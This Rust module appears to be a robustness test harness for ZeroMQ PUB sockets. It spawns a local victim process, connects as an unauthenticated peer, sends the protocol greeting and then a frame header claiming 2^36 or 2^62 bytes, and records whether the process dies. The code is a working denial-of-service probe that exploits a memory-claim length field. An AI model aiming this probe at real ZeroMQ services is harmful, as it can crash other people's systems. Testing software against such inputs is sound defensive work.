//! A frame header that claims more than there is memory.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use crate::peers::{GREETING, Publisher};
use crate::{Outcome, myself};

pub(crate) fn run() -> Outcome {
    for library in ["zeromq", "libzmq"] {
        for exponent in [36, 62] {
            let mut victim = myself(&["frame-claim-victim", library])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()?;
            let address = first_line(&mut victim)?;
            let mut attacker = TcpStream::connect(&address)?;
            attacker.write_all(&GREETING)?;
            // A long frame: flags 0x02, then its length in 8 bytes. No READY, no body.
            let mut header = [0; 9];
            header[0] = 0x02;
            header[1..].copy_from_slice(&(1_u64 << exponent).to_be_bytes());
            attacker.write_all(&header)?;
            let fate = fate_of(&mut victim)?;
            println!(
                "frame-claim: PUB of {library}, {} bytes from an unknown peer (greeting, then the header of a frame of \
                 2^{exponent} bytes): {fate}",
                GREETING.len() + header.len()
            );
        }
    }
    Ok(())
}

/// Binds a PUB, says where, and lives until its parent kills it.
pub(crate) async fn victim(library: &str) -> Outcome {
    let publisher = Publisher::bind(library).await?;
    println!("{}", publisher.endpoint.trim_start_matches("tcp://"));
    std::future::pending::<Outcome>().await
}

fn first_line(child: &mut Child) -> Outcome<String> {
    let stdout = child.stdout.as_mut().ok_or("the child has no stdout")?;
    let mut line = String::new();
    BufReader::new(stdout).read_line(&mut line)?;
    Ok(line.trim().to_owned())
}

/// Waits 2 s for the child to end. A child that still lives is ended.
fn fate_of(child: &mut Child) -> Outcome<String> {
    let deadline = Instant::now() + Duration::from_secs(2);
    while Instant::now() < deadline {
        if let Some(status) = child.try_wait()? {
            let mut said = String::new();
            child
                .stderr
                .as_mut()
                .ok_or("the child has no stderr")?
                .read_to_string(&mut said)?;
            return Ok(format!(
                "process ended, {status}: {}",
                said.lines().next().unwrap_or_default()
            ));
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.kill()?;
    child.wait()?;
    Ok("process lives".to_owned())
}
